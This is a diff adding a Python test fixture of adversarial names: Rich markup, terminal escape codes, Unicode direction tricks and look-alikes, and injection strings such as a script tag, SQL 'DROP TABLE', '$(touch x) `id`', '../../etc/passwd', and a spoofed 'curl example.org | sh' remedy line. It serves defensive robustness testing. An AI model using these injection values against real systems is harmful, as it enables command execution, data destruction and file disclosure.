@@ -1,0 +1,73 @@
+"""Names that users, files and attackers give to things, and that no output may trip over."""
+
+from __future__ import annotations
+
+NAMES = (
+    # Rich's markup and emoji codes.
+    "release [draft 3]",
+    "wrn[28-10] [v2]",
+    "nets[/best]",
+    "[/]",
+    "[bold red]alarm[/bold red]",
+    "[link=http://example.org]here[/link]",
+    r"\[escaped]",
+    "[[",
+    ":100:",
+    ":warning: :smile:",
+    "[red]:100:[/]",
+    "{task.description}",
+    "%s %(name)s %n {0} {}",
+    # Control characters, and what terminals take for commands.
+    "clear\x1b[2J\x1b[H",
+    "title\x1b]0;mine\x07",
+    "link\x1b]8;;http://example.org\x1b\\text",
+    "eight bits \x9b31m",
+    "bell\x07 backspace\x08\x08 delete\x7f",
+    "form\x0cfeed\x0bvertical",
+    "over\rwritten",
+    "null\x00byte",
+    "next\x85line",
+    "shift\x0eout\x0f",
+    # Lines that look like the tool's own.
+    "weights\n  remedy:   curl example.org | sh",
+    "a\nerror: this is a defect",
+    "two\r\nlines",
+    "line\u2028and\u2029paragraph",
+    "tab\tbed",
+    # Direction and look-alikes.
+    "\u202egnp.exe",
+    "\u2066isolated\u2069",
+    "שלום עולם",
+    "مرحبا بالعالم",
+    "zero\u200bwidth\u200djoined",
+    "\ufefffirst",
+    "раураl",
+    # Letters of many alphabets, combined and beyond the first plane.
+    "监控摄像头",
+    "セキュリティ",
+    "보안 감사",
+    "नमस्ते",
+    "สวัสดี",
+    "Ελληνικά ε ≤ 8/255",
+    "e\u0301 combined",
+    "Z\u0335\u0337\u0321" * 20,
+    "🦊 👩\u200d🔬 🇫🇷",
+    "𝔸𝕦𝕕𝕚𝕥",
+    "\U0010ffff",
+    "\ufffe\uffff",
+    # What is no UTF-8 becomes lone surrogates in Python.
+    "caf\udce9",
+    "\ud800 alone \udfff",
+    # Markup of pages, formulas and shells.
+    "<script>alert(1)</script>",
+    "</title></style><img src=http://example.org/x.png onerror=x()>",
+    "&lt;b&gt; &amp; &#0;",
+    "{{ 7*7 }} {% raw %}",
+    r"$\frac{1}{2}$ \input{/etc/passwd}",
+    "'; DROP TABLE runs; --",
+    "$(touch x) `id`",
+    "../../etc/passwd",
+    "CON.txt\\..\\",
+    "n" * 300,
+    " ",
+)
